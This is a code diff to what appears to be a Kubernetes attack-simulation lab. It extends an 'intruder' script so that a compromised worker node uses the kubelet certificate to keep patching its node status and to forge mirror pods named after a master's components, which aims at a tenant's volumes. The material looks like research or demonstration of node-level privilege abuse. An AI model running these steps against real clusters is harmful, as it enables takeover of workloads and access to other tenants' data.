@@ -6,7 +6,7 @@ import { list } from "../facts.ts";
 import { ENDPOINT } from "../kubeadm-config.ts";
 import type { Lab, Machine } from "../machine.ts";
 import { KIT, note, type Scene } from "../scene.ts";
-import { kubeletsMirror } from "./objects.ts";
+import { kubeletsMirror, squatterOn } from "./objects.ts";
 import { clientWishes, servingWishes, signingRequests, stolenNames } from "./requests.ts";
 
 const HOME = "/root/intruder";
@@ -35,7 +35,10 @@ export async function workerAttacks(scene: Scene, { joins }: Intrusion) {
   write("client.json", JSON.stringify({ apiVersion: "v1", kind: "List", items: await signingRequests(clientWishes(lab)) }));
   write("serving.json", JSON.stringify({ apiVersion: "v1", kind: "List", items: await signingRequests(servingWishes(lab)) }));
   write("run.sh", script(node, joins));
-  await tryMirrors(scene, node);
+  const own = await identityOf(scene, node);
+  const master = lab.masters[0]!.nodeName;
+  write("mirror.json", JSON.stringify(kubeletsMirror(`keepalived-${master}`, own, await squattersUid(lab, master))));
+  await tryMirrors(scene, node, own);
   await must(node, ["systemd-run", `--unit=${UNIT}`, "--collect", "bash", `${HOME}/run.sh`]);
   await poisoned(scene);
   note(
@@ -59,13 +62,15 @@ function claimed(lab: Lab) {
   ];
 }
 
-/** The kubelet puts its status right every ten seconds at most; it is wrong again within one. */
+/** The kubelet puts its status right every ten seconds at most, and deletes the mirror pod within two; both are there again at once. */
 function script({ nodeName }: Machine, joins: boolean): string {
   const kubeconfig = "--kubeconfig /etc/kubernetes/kubelet.conf --request-timeout=5s";
+  const curl = `curl -sSk --max-time 5 --cert ${CERT} -o answer.json -w '%{http_code}\\n'`;
+  const api = `https://${ENDPOINT}/api/v1`;
   return `cd ${HOME}
 until [ -e stop ]; do
-  curl -sSk --max-time 5 --cert ${CERT} -X PATCH -H 'Content-Type: application/merge-patch+json' -o answer.json -w '%{http_code}\\n' \\
-    --data @status.json https://${ENDPOINT}/api/v1/nodes/${nodeName}/status
+  ${curl} -X PATCH -H 'Content-Type: application/merge-patch+json' --data @status.json ${api}/nodes/${nodeName}/status
+  ${curl} -H 'Content-Type: application/json' --data @mirror.json ${api}/namespaces/kube-system/pods
   sleep 0.5
 done >status.log 2>&1 &
 if ${joins}; then
@@ -81,10 +86,17 @@ wait
 `;
 }
 
+async function identityOf({ lab }: Scene, { nodeName }: Machine) {
+  return { nodeName, uid: (await list(lab, "nodes")).find(({ metadata }) => metadata.name === nodeName)!.metadata.uid };
+}
+
+/** Where the tenant's volumes lie on that node. */
+async function squattersUid(lab: Lab, nodeName: string): Promise<string> {
+  return (await list(lab, "pods")).find(({ metadata }) => metadata.name === squatterOn(nodeName))!.metadata.uid;
+}
+
 /** As itself it may make mirror pods bound to itself; what the API server says to the name of a master's, and to another node. */
-async function tryMirrors(scene: Scene, node: Machine) {
-  const uid = (await list(scene.lab, "nodes")).find(({ metadata }) => metadata.name === node.nodeName)!.metadata.uid;
-  const own = { nodeName: node.nodeName, uid };
+async function tryMirrors(scene: Scene, node: Machine, own: { nodeName: string; uid: string }) {
   const master = scene.lab.masters[0]!.nodeName;
   const tries = [
     { what: `kube-apiserver-${master} bound to itself`, pod: kubeletsMirror(`kube-apiserver-${master}`, own) },
